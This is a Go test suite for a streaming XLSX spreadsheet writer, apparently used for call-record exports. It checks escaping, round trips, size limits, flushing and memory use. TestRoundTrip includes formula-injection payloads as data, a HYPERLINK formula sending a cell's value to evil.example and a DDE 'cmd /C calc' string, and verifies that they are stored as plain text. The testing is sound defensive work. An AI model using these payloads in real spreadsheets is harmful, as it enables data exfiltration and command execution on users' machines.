package xlsxstream

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"encoding/xml"
	"errors"
	"io"
	"runtime"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

// build writes rows with New(opt) and returns the file.
func build(t testing.TB, opt Options, rows ...[]any) []byte {
	t.Helper()
	var buf bytes.Buffer
	x, err := New(&buf, opt)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := x.WriteRow(r...); err != nil {
			t.Fatal(err)
		}
	}
	if err := x.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func open(t *testing.T, b []byte) (*excelize.File, string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f, f.GetSheetName(0)
}

// sheetXML returns the sheet part of file b.
func sheetXML(t *testing.T, b []byte) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if f.Name == "xl/worksheets/sheet1.xml" {
			rc, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			defer rc.Close()
			s, err := io.ReadAll(rc)
			if err != nil {
				t.Fatal(err)
			}
			return string(s)
		}
	}
	t.Fatal("no sheet1.xml")
	return ""
}

// TestRoundTrip: what excelize reads back is what was written, text as
// text (leading zeros, Chinese, formula-like values), numbers as numbers.
func TestRoundTrip(t *testing.T) {
	formula := `=HYPERLINK("http://evil.example/?x="&A1,"open")`
	rows := [][]any{
		{"号码", "时间", "通话时长(秒)", "意向", "备注"},
		{"02180344315", "2024-05-01 09:30", 37, "A级(有意向)", formula},
		{"+8613800138000", "", int64(0), "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"},
		{"a & b <c> \"d\" 'e'", nil, 1.5, true, "  spaced  "},
		{"line1\nline2\r\nline3\ttab", uint16(7), float32(0.25), false, "_x0041_ and _X004a_ and _x12_"},
	}
	b := build(t, Options{SheetName: "通话记录"}, rows...)
	f, sheet := open(t, b)
	if sheet != "通话记录" {
		t.Errorf("sheet %q", sheet)
	}
	got, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"号码", "时间", "通话时长(秒)", "意向", "备注"},
		{"02180344315", "2024-05-01 09:30", "37", "A级(有意向)", formula},
		{"+8613800138000", "", "0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"},
		{"a & b <c> \"d\" 'e'", "", "1.5", "TRUE", "  spaced  "},
		{"line1\nline2\r\nline3\ttab", "7", "0.25", "FALSE", "_x0041_ and _X004a_ and _x12_"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("rows (-want +got):\n%s", diff)
	}
	for cell, typ := range map[string]excelize.CellType{"A2": excelize.CellTypeInlineString, "C2": excelize.CellTypeUnset,
		"C4": excelize.CellTypeUnset, "D4": excelize.CellTypeBool, "E2": excelize.CellTypeInlineString} {
		if got, _ := f.GetCellType(sheet, cell); got != typ {
			t.Errorf("%s type %v, want %v", cell, got, typ)
		}
		if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
			t.Errorf("%s is a formula %q", cell, fm)
		}
	}
	if x := sheetXML(t, b); strings.Contains(x, "<f>") || strings.Contains(x, "<f ") {
		t.Errorf("formula element in the sheet:\n%s", x)
	}
}

// TestEscaping: the sheet's XML for awkward text, and every part parses.
func TestEscaping(t *testing.T) {
	b := build(t, Options{SheetName: `a<b>&"c"`}, []any{"x & y < z > w", "cr\rhere", "_x0041_"})
	x := sheetXML(t, b)
	for _, want := range []string{
		`<c r="A1" t="inlineStr"><is><t xml:space="preserve">x &amp; y &lt; z &gt; w</t></is></c>`,
		`<t xml:space="preserve">cr&#13;here</t>`,
		`<t xml:space="preserve">_x005F_x0041_</t>`,
		`</sheetData><ignoredErrors><ignoredError sqref="A1:XFD1048576" numberStoredAsText="1"/></ignoredErrors></worksheet>`,
	} {
		if !strings.Contains(x, want) {
			t.Errorf("sheet lacks %s:\n%s", want, x)
		}
	}
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, f := range zr.File {
		names = append(names, f.Name)
		rc, _ := f.Open()
		d := xml.NewDecoder(rc)
		for {
			_, err := d.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Errorf("%s: %v", f.Name, err)
				break
			}
		}
		rc.Close()
	}
	want := []string{"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml", "xl/worksheets/sheet1.xml"}
	if diff := cmp.Diff(want, names); diff != "" {
		t.Errorf("parts (-want +got):\n%s", diff)
	}
	if f, sheet := open(t, b); sheet != `a<b>&"c"` {
		t.Errorf("sheet name %q", sheet)
	} else if v, _ := f.GetCellValue(sheet, "B1"); v != "cr\rhere" {
		t.Errorf("B1 %q", v)
	}
}

// TestInvalidXMLChars: characters XML 1.0 cannot carry are dropped, the
// rest of the text kept; the file still opens.
func TestInvalidXMLChars(t *testing.T) {
	in := "a\x00b\x01c\x08d\x0be\x0cf\x1fg\uFFFEh\uFFFFi\xffj\xc3k\U0001F600l"
	b := build(t, Options{}, []any{in, "\x00\x01"})
	f, sheet := open(t, b)
	got, _ := f.GetCellValue(sheet, "A1")
	if want := "abcdefghijk\U0001F600l"; got != want {
		t.Errorf("A1 %q, want %q", got, want)
	}
	if v, _ := f.GetCellValue(sheet, "B1"); v != "" {
		t.Errorf("B1 %q, want empty", v)
	}
}

// TestLongText: a cell holds at most MaxCellChars UTF-16 units.
func TestLongText(t *testing.T) {
	long := strings.Repeat("号", MaxCellChars+10)
	emoji := strings.Repeat("\U0001F600", MaxCellChars/2+3) // two units each
	b := build(t, Options{}, []any{long, emoji, strings.Repeat("a", MaxCellChars)})
	f, sheet := open(t, b)
	for cell, want := range map[string]int{"A1": MaxCellChars, "B1": MaxCellChars / 2, "C1": MaxCellChars} {
		v, _ := f.GetCellValue(sheet, cell)
		if n := len([]rune(v)); n != want {
			t.Errorf("%s has %d characters, want %d", cell, n, want)
		}
	}
}

// TestOptions: column widths, the frozen header, a sanitized sheet name.
func TestOptions(t *testing.T) {
	b := build(t, Options{SheetName: "a/b:c*d?[e]\\" + strings.Repeat("x", 40), ColWidths: []float64{18, 0, 9.5}, FreezeHeader: true},
		[]any{"h1", "h2", "h3"}, []any{"v"})
	f, sheet := open(t, b)
	if want := "a_b_c_d__e__" + strings.Repeat("x", 19); sheet != want {
		t.Errorf("sheet %q, want %q", sheet, want)
	}
	if w, _ := f.GetColWidth(sheet, "A"); w != 18 {
		t.Errorf("A width %v", w)
	}
	if w, _ := f.GetColWidth(sheet, "C"); w != 9.5 {
		t.Errorf("C width %v", w)
	}
	panes, err := f.GetPanes(sheet)
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes %+v %v", panes, err)
	}
}

// TestCellRefs: columns past Z and rows past 9.
func TestCellRefs(t *testing.T) {
	for col, want := range map[int]string{0: "A1", 25: "Z1", 26: "AA1", 701: "ZZ1", 702: "AAA1", MaxCols - 1: "XFD1"} {
		if got := string(appendCellRef(nil, col, 1)); got != want {
			t.Errorf("col %d: %s, want %s", col, got, want)
		}
	}
	row := make([]any, 30)
	for i := range row {
		row[i] = i
	}
	rows := make([][]any, 12)
	for i := range rows {
		rows[i] = row
	}
	f, sheet := open(t, build(t, Options{}, rows...))
	if v, _ := f.GetCellValue(sheet, "AD12"); v != "29" {
		t.Errorf("AD12 = %q", v)
	}
}

// TestUnsupportedType: an error, and the writer stays failed.
func TestUnsupportedType(t *testing.T) {
	x, err := New(io.Discard, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := x.WriteRow("a", struct{}{}); err == nil {
		t.Fatal("struct cell accepted")
	}
	if err := x.WriteRow("b"); err == nil {
		t.Error("a write after an error succeeded")
	}
	if err := x.Close(); err == nil {
		t.Error("close after an error succeeded")
	}
}

// TestClosed: writes after Close fail.
func TestClosed(t *testing.T) {
	x, _ := New(io.Discard, Options{})
	if err := x.Close(); err != nil {
		t.Fatal(err)
	}
	if err := x.WriteRow("a"); !errors.Is(err, ErrClosed) {
		t.Errorf("write after close: %v", err)
	}
}

type failAfter struct{ n int }

func (f *failAfter) Write(p []byte) (int, error) {
	if f.n -= len(p); f.n < 0 {
		return 0, errors.New("connection reset")
	}
	return len(p), nil
}

// TestWriteError: the underlying writer's error comes back from Flush or
// Close, not swallowed.
func TestWriteError(t *testing.T) {
	x, err := New(&failAfter{n: 1 << 10}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	var werr error
	for i := 0; i < 10000 && werr == nil; i++ {
		if werr = x.WriteRow("row", strconv.Itoa(i), i); werr == nil && i%100 == 0 {
			werr = x.Flush()
		}
	}
	if werr == nil {
		werr = x.Close()
	}
	if werr == nil || !strings.Contains(werr.Error(), "connection reset") {
		t.Errorf("error %v, want the writer's", werr)
	}
}

// TestFlushSendsRows: after Flush, the rows written so far are in the
// output (the sheet entry's compressed bytes decode to them), before Close.
func TestFlushSendsRows(t *testing.T) {
	var buf bytes.Buffer
	x, err := New(&buf, Options{})
	if err != nil {
		t.Fatal(err)
	}
	x.WriteRow("首行", 1)
	x.WriteRow("second row", 2)
	if err := x.Flush(); err != nil {
		t.Fatal(err)
	}
	out := buf.Bytes()
	// The local header of the sheet entry, then its deflate stream.
	i := bytes.Index(out, []byte("xl/worksheets/sheet1.xml"))
	if i < 30 || binary.LittleEndian.Uint32(out[i-30:]) != 0x04034b50 {
		t.Fatalf("no local header for the sheet in %d bytes", len(out))
	}
	extra := int(binary.LittleEndian.Uint16(out[i-2:]))
	data := out[i+len("xl/worksheets/sheet1.xml")+extra:]
	sheet, err := io.ReadAll(flate.NewReader(bytes.NewReader(data)))
	if !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Errorf("the sheet's stream ended (%v) before Close", err)
	}
	for _, want := range []string{`<sheetData><row r="1">`, "首行", `<row r="2"><c r="A2" t="inlineStr"><is><t xml:space="preserve">second row</t></is></c><c r="B2"><v>2</v></c></row>`} {
		if !bytes.Contains(sheet, []byte(want)) {
			t.Errorf("flushed sheet lacks %s:\n%s", want, sheet)
		}
	}
	if err := x.Close(); err != nil {
		t.Fatal(err)
	}
	f, s := open(t, buf.Bytes())
	if rows, _ := f.GetRows(s); len(rows) != 2 {
		t.Errorf("%d rows", len(rows))
	}
}

// exportRow is a row like the call export's.
func exportRow(i int) []any {
	return []any{"0218034" + strconv.Itoa(4000+i%1000), "2024-05-01 09:30", i % 300, i % 12, 55, "A级(有意向)",
		"价格敏感、要求回电", "客户挂断", "02180344315", "✓"}
}

// TestManyRowsBoundedMemory: 100,000 rows go out with the heap flat.
func TestManyRowsBoundedMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("-short")
	}
	heap := func() uint64 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	var n countWriter
	base := heap()
	x, err := New(&n, Options{})
	if err != nil {
		t.Fatal(err)
	}
	var at10k, peak uint64
	const rows = 100_000
	for i := range rows {
		if err := x.WriteRow(exportRow(i)...); err != nil {
			t.Fatal(err)
		}
		if i%15 == 14 {
			x.Flush()
		}
		if i%10_000 == 9_999 {
			h := heap()
			peak = max(peak, h)
			if at10k == 0 {
				at10k = h
			}
		}
	}
	if err := x.Close(); err != nil {
		t.Fatal(err)
	}
	t.Logf("%d rows, %d bytes; heap: before %d KB, at 10k rows %d KB, peak %d KB", x.Rows(), n, base>>10, at10k>>10, peak>>10)
	if peak > base+4<<20 {
		t.Errorf("heap grew to %d KB from %d KB", peak>>10, base>>10)
	}
	if peak > at10k+256<<10 {
		t.Errorf("heap grows with the rows: %d KB at 10k rows, %d KB at most later", at10k>>10, peak>>10)
	}
}

type countWriter int64

func (c *countWriter) Write(p []byte) (int, error) { *c += countWriter(len(p)); return len(p), nil }

// BenchmarkWriteRow: rows shaped like the call export's, flushed every 15
// rows (one platform page) as the export does.
func BenchmarkWriteRow(b *testing.B) {
	var n countWriter
	x, err := New(&n, Options{})
	if err != nil {
		b.Fatal(err)
	}
	rows := make([][]any, 1000)
	for i := range rows {
		rows[i] = exportRow(i)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := x.WriteRow(rows[i%len(rows)]...); err != nil {
			b.Fatal(err)
		}
		if i%15 == 14 {
			x.Flush()
		}
		if x.Rows() == MaxRows {
			b.StopTimer()
			x.Close()
			x, _ = New(&n, Options{})
			b.StartTimer()
		}
	}
	x.Close()
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "rows/s")
	b.ReportMetric(float64(n)/float64(b.N), "B/row")
}

// FuzzText: any text comes back as written, less what XML cannot carry.
func FuzzText(f *testing.F) {
	for _, s := range []string{"", "a", "=1+1", "_x0041_", "a\x00b", "\r\n", "号码 0218", "\xff", "__x0041__", "&lt;"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var buf bytes.Buffer
		x, _ := New(&buf, Options{})
		if err := x.WriteRow(s); err != nil {
			t.Fatal(err)
		}
		if err := x.Close(); err != nil {
			t.Fatal(err)
		}
		xf, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatal(err)
		}
		defer xf.Close()
		got, _ := xf.GetCellValue(xf.GetSheetName(0), "A1")
		want := strings.Map(func(r rune) rune {
			if r == '\uFFFD' && !strings.ContainsRune(s, '\uFFFD') || !validXMLChar(r) {
				return -1
			}
			return r
		}, strings.ToValidUTF8(s, ""))
		if len(want) > MaxCellChars { // long inputs are cut; compare the start
			return
		}
		if got != want {
			t.Errorf("%q came back %q, want %q", s, got, want)
		}
	})
}
